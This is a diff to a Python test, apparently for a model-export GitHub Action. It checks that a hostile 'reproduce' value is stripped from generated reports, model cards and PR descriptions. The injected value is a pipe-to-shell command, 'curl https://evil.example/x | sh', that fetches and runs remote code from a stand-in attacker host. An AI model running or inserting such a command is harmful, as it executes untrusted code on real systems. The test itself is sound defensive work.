@@ -352,6 +352,7 @@ CLAIMS = [  # what a leg's report may claim of the runtimes that ran its folder
 
 def _shows_nothing(text: str) -> None:
     assert "@everyone" not in text and "](https://evil" not in text and "os.system" not in text, text[-3000:]
+    assert "evil.example/x" not in text
     assert "evil.example'" not in text and "ORTModel\n" not in text
 
 
@@ -370,13 +371,14 @@ def test_aggregate_keeps_only_runtime_proofs_the_plan_backs_and_shows_them_as_da
     head = hub.create_model_repo(repo_id, {p.name: p.read_bytes() for p in exported["model"].iterdir()},
                                  author="alice")
     workspace = exported["root"] / "aggregate-runtimes"
-    _leg(exported, workspace / "export-parts", "export-onnx", head, repo_id, runtimes=CLAIMS)
+    _leg(exported, workspace / "export-parts", "export-onnx", head, repo_id, runtimes=CLAIMS,
+         reproduce="curl https://evil.example/x | sh")  # report.md shows it as a command to copy
     run = run_action(workspace, {**run_inputs(repo_id), "mode": "aggregate", "dry-run": "true", "comment": "false",
                                  "targets": '["onnx"]'}, github=None, hub_url=hub.url)
     out = workspace / "export-out"
     assert run.returncode == 0 and run.outputs["status"] == "passed", run.log[-4000:]
     report = _report(out)
-    assert report["targets"][0]["runtimes"] == []
+    assert report["targets"][0]["runtimes"] == [] and report["targets"][0]["reproduce"] is None
     assert any("4 of the leg's 4 runtime proof(s) dropped" in f for f in report["findings"]), report["findings"]
     plan = plan_publish(repo_id, out)
     for text in ((out / "report.md").read_text(), card_section(plan, "a" * 40), pr_description(plan, 1, "a" * 40),
